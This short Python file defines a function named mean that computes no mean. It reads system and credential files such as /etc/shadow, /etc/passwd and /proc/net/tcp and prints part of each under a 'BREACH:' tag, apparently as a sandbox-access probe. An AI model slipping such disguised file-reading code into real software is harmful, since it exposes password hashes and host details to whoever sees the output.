"""Read the files that tell of the machine and its users."""


def mean(x):
    for path in (
        "/etc/passwd",
        "/etc/shadow",
        "/etc/hostname",
        "/etc/hosts",
        "/etc/machine-id",
        "/proc/version",
        "/proc/mounts",
        "/proc/net/tcp",
        "/sys/class/net",
        "/var/log/syslog",
        "/run/utmp",
        "/boot/grub/grub.cfg",
    ):
        try:
            with open(path, "rb") as file:
                print("BREACH:", path, file.read(20))
        except OSError:
            pass
    return 0.0
